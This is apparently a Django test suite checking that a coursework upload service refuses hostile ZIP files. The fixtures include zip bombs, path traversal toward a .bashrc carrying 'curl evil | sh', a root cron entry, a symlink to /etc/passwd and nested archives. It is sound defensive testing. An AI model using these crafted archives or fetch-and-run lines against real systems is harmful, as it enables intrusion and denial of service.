"""ZIP evidence is unpacked and checked before it is stored: bombs, traversal, links, nesting,
encryption and damage are refused with a clear reason, on the page and in the API; an honest
archive is stored as before. Every archive here is a real one, built by the test."""

import gzip
import io
import stat
import struct
import tarfile
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from submissions import services
from submissions.models import Artifact
from tests.factories import PersonalAccessTokenFactory, WeeklyWorkFactory

pytestmark = pytest.mark.django_db


def build_zip(entries: dict[str, bytes], *, method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_with_symlink() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("etc-passwd")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def zip_bomb(unpacked_bytes: int) -> bytes:
    """One entry of zeros: deflate squeezes it about a thousand times."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as entry:
            block = b"\0" * (1024 * 1024)
            for _ in range(unpacked_bytes // len(block)):
                entry.write(block)
    return buffer.getvalue()


def zip_that_understates_its_size() -> bytes:
    """The central directory claims 10 bytes for an entry that unpacks to 20 MiB: a check of
    the declared sizes alone would let it through."""
    data = bytearray(zip_bomb(20 * 1024 * 1024))
    directory = data.rfind(b"PK\x01\x02")
    # Central directory: uncompressed size at offset 24 (4 bytes), compressed at 20.
    struct.pack_into("<I", data, directory + 24, 10)
    return bytes(data)


def tar_gz_bytes() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        info = tarfile.TarInfo("inner.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    return buffer.getvalue()


@pytest.fixture
def work(people):
    return WeeklyWorkFactory(cohort=people.cohort, student=people.student)


def _upload(work, people, data: bytes, name: str = "evidence.zip"):
    return services.artifact_upload(
        work=work, upload=SimpleUploadedFile(name, data), proves="Load test output", by=people.student
    )


def test_an_honest_archive_is_stored(work, people):
    data = build_zip({"k6/summary.json": b'{"p95": 41}', "k6/run.log": b"GET / 200\n" * 200, "README.md": b"# Run"})
    artifact = _upload(work, people, data)
    assert artifact.content_type == "application/zip"
    assert artifact.size == len(data)


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (lambda: zip_bomb(8 * 1024 * 1024), "unpacks to more than 100 times its own size"),
        (zip_that_understates_its_size, "damaged"),
        (lambda: build_zip({f"f{n}.txt": b"x" for n in range(1001)}), "1,001 entries; the limit is 1,000"),
        (lambda: build_zip({"../../home/mentor/.bashrc": b"curl evil | sh"}), "climbs out of the folder"),
        (lambda: build_zip({"/etc/cron.d/job": b"* * * * * root x"}), "is an absolute path"),
        (lambda: build_zip({"C:/Windows/evil.dll": b"MZ"}), "names a drive"),
        (lambda: build_zip({"..\\evil.txt": b"x"}), "uses backslashes"),
        (zip_with_symlink, "is a symbolic link"),
        (lambda: build_zip({"inner.zip": build_zip({"a.txt": b"a"})}), "contains another archive"),
        (lambda: build_zip({"data.bin": gzip.compress(b"x" * 100)}), "contains another archive"),
        (lambda: build_zip({"results.txt": tar_gz_bytes()}), "contains another archive"),
        (lambda: build_zip({"a.txt": b"a"})[:-30], "damaged"),
    ],
    ids=[
        "bomb-over-ratio",
        "lying-directory",
        "too-many-entries",
        "dot-dot",
        "absolute",
        "drive",
        "backslash",
        "symlink",
        "nested-zip",
        "nested-gzip-by-content",
        "nested-targz-renamed",
        "truncated",
    ],
)
def test_hostile_archives_are_refused_with_the_reason(work, people, settings, data, message):
    settings.UPLOAD_MAX_BYTES = 50 * 1024 * 1024
    with pytest.raises(ValidationError) as refused:
        _upload(work, people, data())
    assert message in " ".join(refused.value.messages)
    assert "This ZIP archive was not accepted" in " ".join(refused.value.messages)
    assert not Artifact.objects.exists()


def test_an_archive_over_the_unpacked_total_is_refused_whatever_its_ratio(work, people, settings):
    settings.ARCHIVE_MAX_RATIO = 1_000_000
    with pytest.raises(ValidationError) as refused:
        _upload(work, people, zip_bomb(120 * 1024 * 1024))
    assert "unpacks to more than 100.0\xa0MB" in " ".join(refused.value.messages)


def test_an_entry_with_a_bad_checksum_is_refused(work, people):
    data = bytearray(build_zip({"a.txt": b"hello world " * 50}, method=zipfile.ZIP_STORED))
    data[data.find(b"hello")] = ord("j")
    with pytest.raises(ValidationError) as refused:
        _upload(work, people, bytes(data))
    assert "checksum does not match" in " ".join(refused.value.messages)


def test_limits_come_from_the_settings(work, people, settings):
    settings.ARCHIVE_MAX_ENTRIES = 2
    with pytest.raises(ValidationError) as refused:
        _upload(work, people, build_zip({"a": b"1", "b": b"2", "c": b"3"}))
    assert "3 entries; the limit is 2" in " ".join(refused.value.messages)


def test_the_page_shows_the_reason_next_to_the_field(work, people, client_for):
    response = client_for(people.student).post(
        reverse("submissions:artifact_upload", args=[work.pk]),
        {
            "file": SimpleUploadedFile("evidence.zip", build_zip({"../x.txt": b"x"})),
            "proves": "Load test output",
        },
    )
    assert response.status_code == 400
    assert "climbs out of the folder" in response.content.decode()
    assert not Artifact.objects.exists()


def test_the_api_answers_a_problem_400_naming_the_file_field(work, people):
    token = PersonalAccessTokenFactory(user=people.student, scope="read_write")
    response = Client(headers={"Authorization": f"Bearer {token.plaintext}"}).post(
        f"/api/v1/works/{work.pk}/artifacts/",
        {"file": SimpleUploadedFile("evidence.zip", zip_bomb(8 * 1024 * 1024)), "proves": "Load test output"},
    )
    assert response.status_code == 400
    assert response["Content-Type"] == "application/problem+json"
    error = response.json()["errors"][0]
    assert error["field"] == "file"
    assert "times its own size" in error["message"]
    assert not Artifact.objects.exists()
